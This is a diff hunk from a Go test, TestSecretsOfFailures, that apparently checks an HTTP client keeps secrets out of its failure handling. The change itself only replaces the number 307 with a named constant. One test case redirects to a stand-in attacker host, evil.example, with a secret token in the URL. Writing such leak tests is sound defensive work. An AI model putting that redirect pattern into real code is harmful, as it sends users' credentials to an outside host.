@@ -131,7 +131,7 @@ func TestSecretsOfFailures(t *testing.T) {
 		{name: "chunk", do: raw("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n%s\r\n")},
 		{name: "location", do: raw("HTTP/1.1 302 Found\r\nLocation: https://x/%s\x7f\r\n\r\n")},
 		{name: "location elsewhere", do: func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "https://evil.example/?x="+secretToken, 307)
+			http.Redirect(w, r, "https://evil.example/?x="+secretToken, http.StatusTemporaryRedirect)
 		}},
 		{name: "cut", do: raw("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"x\":\"%s\"")},
 		{name: "shape", do: func(w http.ResponseWriter, _ *http.Request) {
